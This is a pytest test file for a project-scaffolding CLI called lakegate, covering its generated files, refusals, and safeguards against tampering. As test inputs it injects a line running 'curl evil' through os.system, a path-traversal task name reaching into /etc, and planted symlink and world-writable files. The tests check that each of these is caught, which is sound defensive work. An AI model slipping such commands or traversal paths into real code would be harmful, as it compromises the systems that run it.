"""`lakegate init DIR`: a project a team owns, that passes its own check at once, and refusals that write nothing."""

import json
import os

import pytest

from lakegate.cli.app import main
from lakegate.pipelines.launch import launcher_text, launchers, run_task
from lakegate.pipelines.parameters import TASKS


def init(capsys, *args) -> tuple[int, str, str]:
    code = main(["init", *args])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    folder = tmp_path_factory.mktemp("projects") / "acme-ml"
    assert main(["init", str(folder), "--repository", "acme/acme-ml", "--json"]) == 0
    return folder


def test_init_writes_a_project_with_its_own_code_launchers_ci_and_pin(project):
    names = {p.relative_to(project).as_posix() for p in project.rglob("*") if p.is_file()}
    assert {"cdktf.json", "main.py", "Makefile", ".gitignore", "README.md", "requirements.txt",
            "tests/test_definitions.py", "environments/dev.yaml", "environments/prod.yaml", "models/churn.py",
            "pipelines/training/train.py", "pipelines/monitoring/refresh_monitor.py",
            ".github/workflows/pull-request.yml", "azure-pipelines.yml"} <= names
    assert not any(n.startswith(("infra/", "promotion/", "cli/", "reports/", "lakegate/")) for n in names)
    assert json.loads((project / "cdktf.json").read_text())["projectId"] == "acme-ml"
    from lakegate import __version__

    assert (project / "requirements.txt").read_text().splitlines()[-1] == f"lakegate=={__version__}"
    dev = (project / "environments" / "dev.yaml").read_text()
    assert "acme/acme-ml" in dev and "contoso/lakegate-ml" not in dev
    assert (project / "pipelines" / "monitoring" / "refresh_monitor.py").read_text().startswith(
        "# Databricks notebook source\n")


def test_the_new_project_passes_check_and_its_generated_files_are_current(project, capsys, monkeypatch):
    monkeypatch.chdir(project)  # a project's paths are relative to the folder holding cdktf.json
    assert main(["check"]) == 0, capsys.readouterr().err
    assert main(["generate", "--check"]) == 0, capsys.readouterr().err


def test_a_hand_edited_or_missing_launcher_is_found(project, capsys, monkeypatch):
    monkeypatch.chdir(project)
    launcher = project / "pipelines" / "training" / "train.py"
    original = launcher.read_text()
    try:
        launcher.write_text(original + "import os; os.system('curl evil')\n")
        assert main(["generate", "--check"]) == 10
        assert "pipelines/training/train.py is out of date" in capsys.readouterr().err
        launcher.unlink()
        assert main(["check"]) == 3  # LG-JOB-002: the job would run a file the repository does not have
        assert "LG-JOB-002" in capsys.readouterr().out
        assert main(["generate"]) == 0
        assert launcher.read_text() == original
    finally:
        launcher.write_text(original)


@pytest.mark.parametrize("make, args, message", [
    (lambda d: (d / "x.txt").write_text("mine"), (), "already exists and is not an empty folder"),
    (lambda d: None, ("--repository", "not a repo"), "give OWNER/NAME"),
    (lambda d: None, ("--wheel", "/etc/hostname"), "not a wheel file"),
])
def test_refusals_exit_6_and_write_nothing(tmp_path, capsys, make, args, message):
    target = tmp_path / "team-ml"
    target.mkdir()
    make(target)
    before = sorted(os.listdir(tmp_path)), sorted(os.listdir(target))
    code, _, err = init(capsys, str(target), *args)
    assert code == 6 and message in err
    assert (sorted(os.listdir(tmp_path)), sorted(os.listdir(target))) == before


def test_a_folder_name_that_cannot_name_a_project_is_refused(tmp_path, capsys):
    code, _, err = init(capsys, str(tmp_path / "Bad_Name"))
    assert code == 6 and "must start with a letter" in err and not (tmp_path / "Bad_Name").exists()


def test_a_wheel_is_pinned_by_its_sha256(tmp_path, capsys):
    wheel = tmp_path / "lakegate-9.9.9-py3-none-any.whl"
    wheel.write_bytes(b"not really a wheel, but bytes to hash")
    assert init(capsys, str(tmp_path / "pinned"), "--wheel", str(wheel))[0] == 0
    import hashlib

    line = (tmp_path / "pinned" / "requirements.txt").read_text().splitlines()[-1]
    assert line == f"lakegate @ {wheel.as_uri()}#sha256={hashlib.sha256(wheel.read_bytes()).hexdigest()}"


def test_every_task_module_has_a_launcher_that_runs_lakegates_module():
    assert {p.removesuffix(".py") for p in launchers()} == {t.removesuffix(".py") for t in TASKS}
    for task in TASKS:
        compile(launcher_text(task), task, "exec")  # valid Python (a notebook's header is a comment)
        assert f"run_task({task!r}" in launcher_text(task)


def test_a_launcher_naming_no_task_module_refuses():
    with pytest.raises(SystemExit, match="not a task module of lakegate"):
        run_task("pipelines/../../etc/evil.py")


def test_a_command_typed_in_a_subfolder_runs_from_the_project_root(project, capsys, monkeypatch):
    monkeypatch.chdir(project / "models")
    try:
        assert main(["check", "--json"]) == 0, capsys.readouterr().err
        assert "dev" in json.loads(capsys.readouterr().out)["environments"]
        os.chdir(project / "models")  # main() moved to the project's root, as a process would
        assert main(["check", "--environments", "nowhere"]) == 2  # a path given keeps meaning where it was typed
        assert "models/nowhere" in capsys.readouterr().err
    finally:
        os.chdir(project.parent)


def test_a_cdktf_json_planted_above_is_no_project(tmp_path):
    from lakegate.project import enclosing_project

    shared = tmp_path / "shared"
    (shared / "alice").mkdir(parents=True)
    (shared / "cdktf.json").write_text("{}")
    assert enclosing_project(shared / "alice") == shared
    shared.chmod(0o777)  # anyone may write there: anyone could have put it there
    assert enclosing_project(shared / "alice") is None
    shared.chmod(0o755)
    (shared / "alice" / ".git").mkdir()  # a repository's root bounds the walk
    (shared / "alice" / "src").mkdir()
    assert enclosing_project(shared / "alice" / "src") is None


def test_a_planted_temporary_file_is_not_written_through(tmp_path):
    from lakegate.infra.scaffold.files import _write

    victim = tmp_path / "victim.txt"
    victim.write_text("mine")
    target = tmp_path / "prod.yaml"
    target.write_text("name: prod\n")
    target.chmod(0o640)
    (tmp_path / ".prod.yaml.lakegate-new").symlink_to(victim)
    _write(target, "name: prod  # edited\n")
    assert victim.read_text() == "mine" and not target.is_symlink()
    assert target.read_text() == "name: prod  # edited\n" and target.stat().st_mode & 0o777 == 0o640
